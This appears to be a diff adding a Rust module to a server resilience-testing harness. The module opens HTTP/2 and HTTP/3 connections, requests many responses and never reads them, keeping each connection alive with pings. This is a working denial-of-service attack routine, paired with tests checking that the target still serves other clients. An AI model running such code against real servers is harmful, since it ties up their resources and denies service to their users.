@@ -1,0 +1,71 @@
+//! Responses that are requested and not read.
+
+use std::io;
+use std::time::Duration;
+
+use tokio::io::AsyncWriteExt;
+
+use super::Force;
+use crate::wire::{Head, h2, h2_frame};
+
+/// Responses on each connection.
+const RESPONSES: u32 = 100;
+/// Time between looks for the end of a connection that is not read.
+const LOOK_EVERY: Duration = Duration::from_secs(5);
+
+pub(super) async fn http3(force: &Force, number: usize) -> io::Result<()> {
+    let connection = force.quic(number, |_| {}).await?;
+    let _open = force.tally.open();
+    let head = Head::get(force.victim.title.as_str()).http3();
+    let mut responses = Vec::new();
+    for _ in 0..RESPONSES {
+        force.act().await;
+        let (mut sending, response) = connection.open_bi().await?;
+        sending.write_all(&head).await?;
+        sending.finish().map_err(io::Error::other)?;
+        responses.push(response);
+    }
+    Err(connection.closed().await.into())
+}
+
+pub(super) async fn http2(force: &Force, number: usize) -> io::Result<()> {
+    let mut stream = force.victim.tls_stream(force.source(number), b"h2").await?;
+    let _open = force.tally.open();
+    stream.write_all(h2::PREFACE).await?;
+    stream.write_all(&h2_frame(h2::SETTINGS, 0, 0, &[])).await?;
+    for number in 0..RESPONSES {
+        force.act().await;
+        let head = Head::get(force.victim.title.as_str());
+        stream.write_all(&head.http2(2 * number + 1, true)).await?;
+    }
+    loop {
+        tokio::time::sleep(LOOK_EVERY).await;
+        stream.write_all(&h2_frame(h2::PING, 0, 0, &[7; 8])).await?;
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::attacks::{Attack, Scale};
+    use crate::beside::assert_served;
+
+    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+    async fn responses_over_http_3_that_nobody_reads_leave_service_to_others() {
+        let scale = Scale {
+            connections: 12,
+            addresses: 12,
+            rate: 1_000.0,
+        };
+        assert_served(Attack::StalledHttp3, scale, &[]).await;
+    }
+
+    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+    async fn responses_over_http_2_that_nobody_reads_leave_service_to_others() {
+        let scale = Scale {
+            connections: 12,
+            addresses: 12,
+            rate: 1_000.0,
+        };
+        assert_served(Attack::StalledHttp2, scale, &[]).await;
+    }
+}
